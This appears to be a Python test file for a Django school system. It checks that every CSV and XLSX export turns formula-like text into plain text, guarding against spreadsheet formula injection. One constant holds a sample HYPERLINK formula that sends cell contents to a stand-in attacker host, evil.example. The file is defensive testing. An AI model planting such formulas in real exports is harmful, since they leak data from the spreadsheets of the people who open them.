"""Formula-safe exports (issue #18): text a spreadsheet would run is written as text, in
every CSV/XLSX we hand out; numbers stay numbers.

The learner names here are written straight into the database (factories, `update()`),
the way a row from before the entry checks, or one written by SQL, would be."""

from __future__ import annotations

import csv
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from vetschool.spreadsheets import (
    FORMULA_STARTS,
    csv_writer,
    no_formula_start,
    safe_cell,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _cells(content: bytes):
    """Every cell of every sheet, read back as a spreadsheet program would."""
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_not_formula(content: bytes, needle: str = EVIL):
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = [c.value for c in cells if isinstance(c.value, str) and needle in c.value]
    assert found, "the name is missing from the export"
    assert all(value.startswith("'") for value in found)
    assert not [c.value for c in cells if isinstance(c.value, str)
                and c.value.startswith(FORMULA_STARTS)]


# --- the helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_beginning_like_a_formula_is_neutralised(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-2.5"), 0, 7, True, None, "Lan", "",
                                   "Nguyễn =1"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_an_xlsx_round_trip_keeps_numbers_and_makes_formulas_text():
    book = Workbook()
    book.active.append(["=1+1", -5, Decimal("-1.5"), "@SUM(A1)", "\tx", "-", "Lan", 3])
    cells = _cells(xlsx_bytes(book))
    assert [c.value for c in cells] == ["'=1+1", -5, -1.5, "'@SUM(A1)", "'\tx", "'-", "Lan",
                                        3]
    assert [c.data_type for c in cells][:3] == ["s", "n", "n"]


def test_a_csv_round_trip_makes_formulas_text():
    stream = StringIO()
    csv_writer(stream).writerows([["=1+1", -5, "+84 912", "Lan"]])
    assert next(csv.reader(StringIO(stream.getvalue()))) == ["'=1+1", "-5", "'+84 912", "Lan"]


def test_a_name_beginning_like_a_formula_is_refused():
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        no_formula_start("=1+1")
    no_formula_start("Nguyễn Văn An")  # accepted


# --- every export -------------------------------------------------------------------------


@pytest.mark.django_db
def test_learner_and_admission_lists(client, registrar):
    from enrollment.models import Application, Learner
    from tests.enrollment.factories import (
        LearnerFactory,
        application,
        enrol,
        occupation,
        open_round,
    )

    learner = enrol(LearnerFactory(full_name=EVIL)).learner
    client.force_login(registrar)
    response = client.post(reverse("admin:enrollment_learner_changelist"), {
        "action": "export_learners", "_selected_action": [learner.pk]})
    assert response.status_code == 200
    _assert_text_not_formula(response.content)

    occ = occupation()
    app = application(open_round(quotas={occ: 5}), [occ], status="admitted", admitted=occ)
    Application.objects.filter(pk=app.pk).update(full_name="=1+1")
    response = client.post(reverse("admin:enrollment_application_changelist"), {
        "action": "export_admission_list", "_selected_action": [app.pk]})
    _assert_text_not_formula(response.content, "=1+1")
    assert Learner.objects.get(pk=learner.pk).full_name == EVIL  # the data is not changed


@pytest.mark.django_db
def test_the_teachers_section_list_and_gradebook(client, teacher):
    from grading.sheet import load_sheet
    from grading.xlsx import gradebook_xlsx
    from tests.grading.factories import section, world

    sec = section(world(2, names=[EVIL, "-Lan"]), "MH01", teacher=teacher)
    client.force_login(teacher)
    response = client.get(f"/teacher/sections/{sec.pk}/learners.xlsx")
    assert response.status_code == 200
    _assert_text_not_formula(response.content)
    _assert_text_not_formula(gradebook_xlsx(load_sheet(sec.gradebook)))
    response = client.get(reverse("grading:xlsx", args=[sec.pk]))
    _assert_text_not_formula(response.content, "-Lan")


@pytest.mark.django_db
def test_the_graduation_review_and_the_diploma_register(client, registrar):
    from degrees.models import Diploma, GraduationReview
    from tests.degrees.factories import finished_class, issued

    _decision, _diplomas = issued(finished_class(1, names=[EVIL]), registrar)
    client.force_login(registrar)
    review = GraduationReview.objects.get()
    response = client.get(reverse("admin:degrees_graduationreview_xlsx", args=[review.pk]))
    _assert_text_not_formula(response.content)
    response = client.post(reverse("admin:degrees_diploma_changelist"), {
        "action": "export_xlsx", "_selected_action": list(
            Diploma.objects.values_list("pk", flat=True))})
    _assert_text_not_formula(response.content)


@pytest.mark.django_db
def test_the_staff_export(client, hr_officer):
    from staff.models import StaffMember
    from tests.grading.factories import staff_for

    staff = staff_for(hr_officer)
    StaffMember.objects.filter(pk=staff.pk).update(full_name=EVIL)
    client.force_login(hr_officer)
    response = client.post(reverse("admin:staff_staffmember_changelist"), {
        "action": "export_xlsx", "_selected_action": [staff.pk]})
    assert response.status_code == 200
    _assert_text_not_formula(response.content)


@pytest.mark.django_db
def test_the_occupation_catalogue_export():
    from vetschool.reference.models import Occupation
    from vetschool.reference.resources import OccupationResource

    occupation = Occupation.objects.create(code="6480299", name_vi=EVIL, level="college")
    dataset = OccupationResource().export(Occupation.objects.filter(pk=occupation.pk))
    assert dataset.dict[0]["name_vi"] == "'" + EVIL
    _assert_text_not_formula(dataset.export("xlsx"))
    assert next(csv.reader(StringIO(dataset.export("csv").splitlines()[1])))[1] == "'" + EVIL
